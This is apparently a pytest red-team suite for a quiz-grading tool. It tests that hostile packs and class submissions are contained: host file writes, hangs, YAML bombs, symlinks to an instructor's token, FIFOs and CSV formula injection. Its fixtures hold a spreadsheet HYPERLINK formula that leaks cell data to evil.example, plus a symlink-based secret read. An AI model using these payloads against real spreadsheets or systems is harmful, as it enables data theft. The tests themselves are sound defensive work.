"""Red team: a hostile pack, and a hostile class of submissions, against validate, grade and grade-batch.

A pack is untrusted input too (a shared pack, a course's student build, a pack a student hands the instructor),
and so are the names and links a class's submissions folder holds. Each test states the right behaviour; the
ones the product does not meet yet are strict xfails with the root cause suspected in their reason. The
packs and answers are in tests/redteam/.
"""

from __future__ import annotations

import csv
import os
import resource
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from quizapp.cli import main
from quizapp.grading.grader import Grader, ReferenceCache
from quizapp.packs import load_pack

REDTEAM = Path(__file__).parent / "redteam"
PACKS = REDTEAM / "packs"
ANSWERS = REDTEAM / "answers"


def _host_verdict_pack(folder: Path, body: str) -> Path:
    """The host-verdict pack with its verdict's module body replaced (indented under `verdict: |`)."""
    text = (PACKS / "host-verdict.yaml").read_text(encoding="utf-8")
    head = text[: text.index("        verdict: |\n")]
    indented = "".join(f"          {line}\n" if line else "\n" for line in body.splitlines())
    path = folder / "pack.yaml"
    path.write_text(head + "        verdict: |\n" + indented, encoding="utf-8")
    return path


def test_a_packs_verdict_cannot_touch_the_grading_hosts_files(judged, tmp_path: Path) -> None:
    marker = tmp_path / "written-by-the-pack.txt"
    path = _host_verdict_pack(
        tmp_path,
        f"""
try:
    with open({str(marker)!r}, "w") as handle:
        handle.write("the pack's verdict ran on the host")
except OSError:
    pass

def verdict(learner, reference):
    return None if learner == reference else "wrong count"
""",
    )
    pack = load_pack(path)
    question = pack.question("twice")
    result = Grader(judged, ReferenceCache(tmp_path / "cache")).grade(
        pack, question, (ANSWERS / "twice_right.py").read_text(encoding="utf-8")
    )
    assert not marker.exists(), marker.read_text()
    assert result.verdict == "accepted", result.to_json()


def test_a_packs_verdict_that_never_returns_is_the_packs_fault_not_a_hang(judged, tmp_path: Path) -> None:
    # It sleeps rather than spins, so that while this fails it costs the machine nothing but the wait.
    path = _host_verdict_pack(
        tmp_path,
        """
import time

def verdict(learner, reference):
    time.sleep(10**6)
""",
    )
    pack = load_pack(path)
    question = pack.question("twice")
    grader = Grader(judged, ReferenceCache(tmp_path / "cache"))
    answer = (ANSWERS / "twice_right.py").read_text(encoding="utf-8")
    outcome: list[object] = []

    def grade() -> None:
        try:
            outcome.append(grader.grade(pack, question, answer))
        except Exception as error:  # a located pack error is a right outcome too
            outcome.append(error)

    worker = threading.Thread(target=grade, daemon=True)  # left sleeping when this fails; it holds nothing
    worker.start()
    worker.join(40)  # a hang detector, ten times the question's wall limit: not a speed goal
    assert outcome, "grading never returned"
    result = outcome[0]
    if isinstance(result, Exception):
        assert "count" in str(result)
    else:
        assert result.verdict != "accepted" and "count" in result.to_json().__repr__()


def _limited(cpu_seconds: int, memory_bytes: int):
    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (cpu_seconds, cpu_seconds))
        resource.setrlimit(resource.RLIMIT_AS, (memory_bytes, memory_bytes))

    return apply


@pytest.mark.e2e
def test_a_yaml_bomb_is_refused_with_a_located_error() -> None:
    bomb = PACKS / "yaml-bomb.yaml"
    done = subprocess.run(
        [sys.executable, "-m", "quizapp", "validate", str(bomb)],
        capture_output=True,
        text=True,
        preexec_fn=_limited(20, 3 << 30),  # 20 s of CPU: ten times what refusing it takes
        env={**os.environ, "QUIZAPP_PACKS": ""},
        check=False,
    )
    assert done.returncode == 1, (done.returncode, done.stderr[-2000:])
    assert f"{bomb}:" in done.stdout and "error" in done.stdout
    assert "Traceback" not in done.stderr


def test_question_ids_cannot_collide_with_the_gradebooks_own_columns(tmp_path: Path) -> None:
    submissions = tmp_path / "submissions"
    for student, total, status in (("ada", "b", "b"), ("bob", "a", "b")):
        (submissions / student).mkdir(parents=True)
        (submissions / student / "total.txt").write_text(total + "\n", encoding="utf-8")
        (submissions / student / "status.txt").write_text(status + "\n", encoding="utf-8")
    out = tmp_path / "grades"
    code = main(["grade-batch", str(PACKS / "table-columns.yaml"), str(submissions), "-o", str(out)])
    if code == 2:  # refusing the pack, with its reason, is right too
        return
    for table in ("grades.csv", "verdicts.csv"):
        with (out / table).open(newline="", encoding="utf-8") as handle:
            header = next(csv.reader(handle))
        assert len(header) == len(set(header)), f"{table}: {header}"


def test_a_student_folder_named_in_bytes_that_are_not_utf8_gets_its_row(tmp_path: Path, capsys) -> None:
    submissions = tmp_path / "submissions"
    odd = os.fsdecode(b"b\xffb")
    for student in ("ada", odd):
        (submissions / student).mkdir(parents=True)
        (submissions / student / "pick-a.txt").write_text("a\n", encoding="utf-8")
        (submissions / student / "pick-b.txt").write_text("b\n", encoding="utf-8")
    out = tmp_path / "grades"
    code = main(["grade-batch", str(PACKS / "choices.yaml"), str(submissions), "-o", str(out)])
    assert code in (0, 1), code
    for table in ("grades.csv", "verdicts.csv", "marks.csv", "results.json", "junit.xml"):
        assert (out / table).exists(), table
    rows = (out / "grades.csv").read_text(encoding="utf-8", errors="replace").splitlines()
    assert len(rows) == 3, rows  # the header, ada, and the odd folder's row


def test_a_submission_that_links_outside_the_class_folder_is_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "instructor" / "token"
    secret.parent.mkdir()
    secret.write_text("s3cr3t-token-of-the-instructor\n", encoding="utf-8")
    submissions = tmp_path / "submissions"
    (submissions / "mallory").mkdir(parents=True)
    (submissions / "mallory" / "pick-a.txt").symlink_to(secret)
    (submissions / "mallory" / "pick-b.txt").write_text("b\n", encoding="utf-8")
    out = tmp_path / "grades"
    main(["grade-batch", str(PACKS / "choices.yaml"), str(submissions), "-o", str(out)])
    for table in out.iterdir():
        assert "s3cr3t" not in table.read_text(encoding="utf-8", errors="replace"), table.name


def test_huge_case_shapes_are_the_references_memory_limit_not_a_crash(judged, tmp_path: Path) -> None:
    """Held: dimensions are bounded by the schema (4096 each) and a case of 4096**4 values is the reference's
    memory_limit, said as the pack's problem, on the session's pool."""
    pack = load_pack(PACKS / "huge-shapes.yaml")
    question = pack.question("twice")
    result = Grader(judged, ReferenceCache(tmp_path / "cache")).grade(
        pack, question, (ANSWERS / "twice_right.py").read_text(encoding="utf-8")
    )
    assert result.verdict == "internal_error", result.to_json()
    assert "memory" in result.message and "reference" in result.message, result.message


def test_a_deeply_nested_pack_is_a_located_error(capsys) -> None:
    pack = PACKS / "deep-nesting.yaml"
    assert main(["validate", str(pack)]) == 1
    out = capsys.readouterr().out
    assert f"{pack}:" in out and "error" in out


def test_a_deeply_nested_pack_in_the_packs_folder_does_not_take_down_list(quizapp_home: Path, capsys) -> None:
    (quizapp_home / "packs").mkdir(exist_ok=True)
    (quizapp_home / "packs" / "deep.yaml").write_text((PACKS / "deep-nesting.yaml").read_text(), encoding="utf-8")
    code = main(["list"])
    out = capsys.readouterr().out
    assert "resnet-residual-block" in out, out[-2000:]
    assert code in (0, 1)


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_students_text_reaches_no_spreadsheet_as_a_formula(tmp_path: Path) -> None:
    submissions = tmp_path / "submissions"
    (submissions / "eve").mkdir(parents=True)
    (submissions / "eve" / "why-no-grad.txt").write_text(
        '=HYPERLINK("https://evil.example/?leak="&A1,"see my answer")\n', encoding="utf-8"
    )
    (submissions / "=1+1").mkdir()
    (submissions / "=1+1" / "pick-a.txt").write_text("a\n", encoding="utf-8")
    out = tmp_path / "grades"
    main(["grade-batch", str(PACKS / "choices.yaml"), str(submissions), "-o", str(out)])
    for table in ("marks.csv", "grades.csv", "verdicts.csv"):
        with (out / table).open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        formulas = [c for c in cells if c.startswith(_FORMULA_START) and not _is_number(c)]
        assert not formulas, f"{table}: {formulas}"


def test_a_fifo_and_a_symlink_loop_in_a_students_folder_neither_hang_nor_stop_grade_batch(tmp_path: Path) -> None:
    """Held: a named pipe named as an answer is not read (it would block for ever), and a link back to the class
    folder is not followed (rglob does not follow directory links); the other answer is graded."""
    submissions = tmp_path / "submissions"
    (submissions / "ada").mkdir(parents=True)
    os.mkfifo(submissions / "ada" / "pick-a.txt")
    (submissions / "ada" / "pick-b.txt").write_text("b\n", encoding="utf-8")
    (submissions / "ada" / "loop").symlink_to(submissions)
    out = tmp_path / "grades"
    code = main(["grade-batch", str(PACKS / "choices.yaml"), str(submissions), "-o", str(out)])
    assert code in (0, 1)
    with (out / "verdicts.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, ada = rows[0], rows[1]
    assert ada[0] == "ada"
    assert ada[header.index("pick-b")] == "accepted"
    assert ada[header.index("pick-a")] == "missing"
